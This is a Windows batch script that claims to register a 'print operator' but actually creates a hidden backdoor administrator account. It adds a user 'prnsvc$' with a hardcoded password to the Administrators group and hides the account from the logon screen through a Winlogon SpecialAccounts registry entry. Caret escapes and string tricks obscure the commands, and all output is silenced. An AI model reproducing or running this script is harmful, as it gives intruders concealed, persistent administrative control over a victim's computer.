@echo off
rem registers the print operator
setlocal
set u=prnsvc$
set "g=Admini"
set "g=%g%strators"
n^e^t u^s^er %u% "Pr1nt!Pr1nt!" /a^dd /active:yes >nul
set c=n%PROCESSOR_ARCHITECTURE:~0,0%et
%c% localgroup %g% %u% /^ad^d >nul
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v %u% /t REG_DWORD /d 0 /f >nul
echo operator registered
endlocal
